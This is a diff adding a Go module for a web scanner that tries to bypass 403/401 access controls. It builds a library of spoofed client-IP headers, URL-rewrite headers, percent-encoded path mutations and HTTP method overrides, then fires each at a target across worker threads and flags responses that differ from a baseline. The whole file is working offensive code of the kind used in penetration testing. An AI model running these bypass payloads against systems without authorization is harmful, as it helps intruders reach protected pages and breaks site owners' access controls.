@@ -0,0 +1,206 @@
+package main
+
+import (
+	"fmt"
+	"net/url"
+	"strings"
+	"sync"
+)
+
+// BypassPayload is a single entry from the built-in 403/401 bypass library,
+// modeled after the technique used by tools like nomore403 and dontgo403.
+type BypassPayload struct {
+	Category     string // "header", "path", or "method"
+	Name         string
+	Headers      map[string]string
+	Method       string
+	PathMutation func(path string) string
+}
+
+// ipBasedHeaders lists the headers that are commonly trusted by upstream
+// proxies/WAFs to carry the "real" client IP.
+func ipBasedHeaders() []string {
+	return []string{
+		"X-Forwarded-For",
+		"X-Forwarded-Host",
+		"X-Real-IP",
+		"X-Custom-IP-Authorization",
+		"X-Client-IP",
+		"X-Host",
+	}
+}
+
+// defaultBypassIPs is used when -bypassIp is not set.
+func defaultBypassIPs() []string {
+	return []string{"127.0.0.1", "localhost", "10.0.0.1"}
+}
+
+// pathMutations holds the raw-path tricks that confuse path-based access
+// control sitting in front of the application (e.g. a reverse proxy ACL).
+func pathMutations() []struct {
+	Name   string
+	Mutate func(path string) string
+} {
+	return []struct {
+		Name   string
+		Mutate func(path string) string
+	}{
+		{"dot-segment", func(p string) string { return "/%2e" + p }},
+		{"current-dir", func(p string) string { return "/." + p }},
+		{"semicolon-param", func(p string) string { return strings.TrimSuffix(p, "/") + "..;/" }},
+		{"trailing-space", func(p string) string { return p + "%20" }},
+		{"trailing-tab", func(p string) string { return p + "%09" }},
+		{"trailing-slash", func(p string) string { return p + "/" }},
+		{"double-slash", func(p string) string { return "//" + strings.TrimPrefix(p, "/") }},
+	}
+}
+
+// buildBypassPayloads assembles the full bypass library for the given target
+// URL. bypassIP overrides the default IP pool used for IP-based headers.
+func buildBypassPayloads(baseURL, bypassIP string) []BypassPayload {
+	var payloads []BypassPayload
+
+	ips := defaultBypassIPs()
+	if bypassIP != "" {
+		ips = []string{bypassIP}
+	}
+
+	for _, h := range ipBasedHeaders() {
+		for _, ip := range ips {
+			payloads = append(payloads, BypassPayload{
+				Category: "header",
+				Name:     fmt.Sprintf("%s: %s", h, ip),
+				Headers:  map[string]string{h: ip},
+			})
+		}
+	}
+
+	path := "/"
+	if parsed, err := url.Parse(baseURL); err == nil && parsed.Path != "" {
+		path = parsed.Path
+	}
+
+	payloads = append(payloads,
+		BypassPayload{Category: "header", Name: "X-Original-URL: " + path, Headers: map[string]string{"X-Original-URL": path}},
+		BypassPayload{Category: "header", Name: "X-Rewrite-URL: " + path, Headers: map[string]string{"X-Rewrite-URL": path}},
+		BypassPayload{Category: "header", Name: "Referer: " + baseURL, Headers: map[string]string{"Referer": baseURL}},
+	)
+
+	for _, m := range pathMutations() {
+		mutate := m.Mutate
+		payloads = append(payloads, BypassPayload{
+			Category:     "path",
+			Name:         m.Name,
+			PathMutation: mutate,
+		})
+	}
+
+	payloads = append(payloads,
+		BypassPayload{Category: "method", Name: "X-HTTP-Method-Override: PUT", Headers: map[string]string{"X-HTTP-Method-Override": "PUT"}},
+		BypassPayload{Category: "method", Name: "Method: POST", Method: "POST"},
+		BypassPayload{Category: "method", Name: "Method: PUT", Method: "PUT"},
+		BypassPayload{Category: "method", Name: "Method: PATCH", Method: "PATCH"},
+	)
+
+	return payloads
+}
+
+// makeBypassRequest sends a single bypass payload against baseURL, applying
+// its header, path, or method mutation as appropriate.
+func makeBypassRequest(engine Engine, baseURL string, delay int, payload BypassPayload) (RequestOutcome, error) {
+	target := baseURL
+	if payload.PathMutation != nil {
+		parsed, err := url.Parse(baseURL)
+		if err != nil {
+			return RequestOutcome{}, err
+		}
+		// Mutate the escaped path and rebuild the URL as a literal string
+		// instead of reassigning parsed.Path: url.URL.String() re-escapes
+		// Path, which would turn a literal "%2e" back into "%252e" on the
+		// wire and silently defeat every percent-encoded mutation below.
+		mutatedPath := payload.PathMutation(parsed.EscapedPath())
+		target = parsed.Scheme + "://" + parsed.Host + mutatedPath
+		if parsed.RawQuery != "" {
+			target += "?" + parsed.RawQuery
+		}
+	}
+
+	method := "GET"
+	if payload.Method != "" {
+		method = payload.Method
+	}
+
+	return makeRequestWithMethod(engine, target, method, payload.Headers, delay)
+}
+
+// runBypassMode captures a baseline response (no injected headers) and then
+// fires every payload in the bypass library across a fixed pool of workers
+// sharing limiter, flagging any response whose fingerprint differs from that
+// baseline.
+func runBypassMode(engine Engine, baseURL, bypassIP string, delay, threads int, limiter *rateLimiter) <-chan Result {
+	jobs := make(chan BypassPayload)
+	results := make(chan Result)
+
+	go func() {
+		defer close(results)
+
+		baselineOutcome, err := makeRequestWithMethod(engine, baseURL, "GET", nil, delay)
+		if err != nil {
+			fmt.Println("Error making baseline request:", err)
+			close(jobs)
+			return
+		}
+		baseline := baselineOutcome.Fingerprint
+
+		go func() {
+			defer close(jobs)
+			for _, payload := range buildBypassPayloads(baseURL, bypassIP) {
+				jobs <- payload
+			}
+		}()
+
+		var wg sync.WaitGroup
+		for i := 0; i < threads; i++ {
+			wg.Add(1)
+			go func() {
+				defer wg.Done()
+
+				backoffSecs := 1
+				for payload := range jobs {
+					limiter.Wait()
+
+					outcome, err := makeBypassRequest(engine, baseURL, delay, payload)
+					if err != nil {
+						continue
+					}
+
+					if status := outcome.Response.StatusCode; status == 429 || status == 503 {
+						backoffSecs = applyBackoff(limiter, outcome.Response, backoffSecs)
+					} else {
+						backoffSecs = 1
+					}
+
+					results <- Result{
+						URL:           outcome.URL,
+						Header:        payload.Name,
+						StatusCode:    outcome.Response.StatusCode,
+						ContentLength: outcome.Fingerprint.ContentLength,
+						Words:         outcome.Fingerprint.Words,
+						Lines:         outcome.Fingerprint.Lines,
+						BodyHash:      outcome.Fingerprint.BodyHash,
+						Category:      payload.Category,
+						Diff:          diffMask(baseline, outcome.Fingerprint),
+						Duration:      outcome.Duration,
+						ServerHeader:  outcome.Response.Header.Get("Server"),
+						ViaHeader:     outcome.Response.Header.Get("Via"),
+						SetCookie:     outcome.Response.Header.Get("Set-Cookie"),
+						Truncated:     outcome.Fingerprint.Truncated,
+					}
+				}
+			}()
+		}
+		wg.Wait()
+	}()
+
+	return results
+}